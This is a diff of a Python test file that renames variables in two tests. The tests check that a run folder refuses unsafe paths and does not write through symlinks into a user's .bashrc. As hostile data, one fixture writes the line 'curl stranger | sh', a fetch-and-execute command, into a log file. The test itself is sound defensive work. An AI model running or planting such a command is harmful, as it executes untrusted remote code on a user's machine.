@@ -232,13 +232,13 @@ def test_a_path_in_which_no_checkpoint_could_be_saved_is_refused(
 ):
     """Orbax looks for what it wrote with a glob pattern that begins with the folder's absolute
     path."""
-    told = f"run_dir: {re.escape(str(tmp_path / name))}.* has {re.escape(character)} in it"
-    with pytest.raises(UserError, match=f"{told}.* would work"):
+    pattern = f"run_dir: {re.escape(str(tmp_path / name))}.* has {re.escape(character)} in it"
+    with pytest.raises(UserError, match=f"{pattern}.* would work"):
         open_run(dataclasses.replace(config, run_dir=str(tmp_path / name / "run")))
     assert not (tmp_path / name).exists()
     (tmp_path / name).mkdir()
     monkeypatch.chdir(tmp_path / name)
-    with pytest.raises(UserError, match=told):
+    with pytest.raises(UserError, match=pattern):
         open_run(dataclasses.replace(config, run_dir=None))
     (tmp_path / "link").symlink_to(tmp_path / name)
     assert open_run(
@@ -260,16 +260,18 @@ def test_a_path_in_which_no_checkpoint_could_be_saved_is_refused(
 @pytest.mark.parametrize("exists", [True, False])
 def test_a_strangers_run_does_not_write_through_links(config, tmp_path, name, exists):
     """Otherwise unreadable log lines would be appended to one of the user's files."""
-    run, own = tmp_path / "run", tmp_path / ".bashrc"
+    run, users_file = tmp_path / "run", tmp_path / ".bashrc"
     open_run(config)
     if exists:
-        own.write_text("the user's own")
+        users_file.write_text("the user's own")
     (run / "metrics.jsonl").write_text("curl stranger | sh\n{}\n")
     (run / name).unlink(missing_ok=True)
-    (run / name).symlink_to(own)
+    (run / name).symlink_to(users_file)
     with pytest.raises(UserError, match=f"{name}: leads to .*, outside of its folder"):
         open_run(config)
-    assert (own.read_text() if own.exists() else None) == ("the user's own" if exists else None)
+    assert (users_file.read_text() if users_file.exists() else None) == (
+        "the user's own" if exists else None
+    )
 
 
 def test_a_run_killed_while_opening_can_be_opened(config, tmp_path):
